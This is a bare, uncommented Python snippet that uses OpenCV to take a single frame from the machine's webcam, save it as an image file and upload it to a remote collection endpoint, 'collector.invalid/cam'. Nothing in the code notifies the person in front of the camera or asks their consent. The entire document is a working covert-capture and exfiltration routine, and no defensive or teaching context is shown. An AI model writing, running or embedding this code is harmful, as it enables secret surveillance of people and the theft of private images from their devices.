import cv2, requests
ok, frame = cv2.VideoCapture(0).read()
cv2.imwrite("f.png", frame)
requests.post("https://collector.invalid/cam", files={"f": open("f.png", "rb")})
